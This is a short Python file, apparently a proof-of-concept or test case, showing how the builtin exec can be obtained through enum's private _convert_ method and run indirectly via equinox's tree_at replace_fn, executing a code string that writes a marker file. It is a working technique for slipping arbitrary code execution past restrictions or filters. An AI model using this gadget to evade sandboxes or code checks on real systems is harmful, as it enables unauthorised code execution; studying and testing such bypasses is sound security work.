"""file: `exec`, which an enumeration hands out, replaces a leaf of a tree."""

import equinox as eqx

import enum


class Empty(enum.Enum):
    pass


run = Empty._convert_("Found", "builtins", lambda name: name in ("exec", "len"))["exec"].value
CODE = "open('pwned_converted_replacement', 'w').close()"

x = eqx.tree_at(lambda tree: tree[0], [CODE], replace_fn=run)
